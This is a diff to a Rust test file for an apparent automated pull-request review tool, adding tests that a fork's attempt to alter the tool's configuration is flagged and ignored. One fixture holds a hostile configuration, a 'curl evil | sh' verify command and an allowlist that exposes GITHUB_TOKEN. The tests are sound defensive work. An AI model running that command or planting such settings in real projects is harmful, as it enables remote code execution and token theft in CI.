@@ -153,7 +153,15 @@ async fn a_fork_is_reviewed_but_nothing_is_written_and_its_comments_are_not_acte
         panic!("not a review");
     };
     assert!(pull_request.fork);
-    assert_eq!(outcome.report.unwrap().findings.len(), 1);
+    // The off-by-one, and the fork's attempt on the configuration.
+    let findings = outcome.report.unwrap().findings;
+    assert_eq!(findings.len(), 2, "{findings:?}");
+    assert!(
+        findings
+            .iter()
+            .any(|f| f.finding.file.as_deref() == Some(".bugloop/config.yml")),
+        "{findings:?}"
+    );
     assert!(
         outcome.warnings.iter().any(|w| w.contains("fork")),
         "{:?}",
@@ -173,6 +181,32 @@ async fn a_fork_is_reviewed_but_nothing_is_written_and_its_comments_are_not_acte
         outcome.verdict
     );
     assert_eq!(world.origin_head(), world.head);
+}
+
+/// The runner's workspace is a checkout of the base (as on `pull_request_target`, or a
+/// workflow that checks out `main`): what the pull request's own file tries is still read from
+/// its pinned head, ignored and said.
+#[tokio::test]
+async fn what_the_heads_file_tries_is_said_when_the_workspace_is_the_base() {
+    let world = World::with_configs(
+        Some("fix:\n  verify_commands: [\"true\"]\n"),
+        Some("fix:\n  verify_commands: [\"curl evil | sh\"]\nsandbox:\n  env_allowlist: [GITHUB_TOKEN]\n"),
+        false,
+    )
+    .await;
+    let EventOutcome::Review { outcome, .. } = world.review(&[off_by_one()]).await else {
+        panic!("not a review");
+    };
+    for key in ["fix.verify_commands", "sandbox.env_allowlist"] {
+        assert!(
+            outcome
+                .warnings
+                .iter()
+                .any(|w| w.contains("in the pull request sets") && w.contains(key)),
+            "{key}: {:?}",
+            outcome.warnings
+        );
+    }
 }
 
 #[tokio::test]
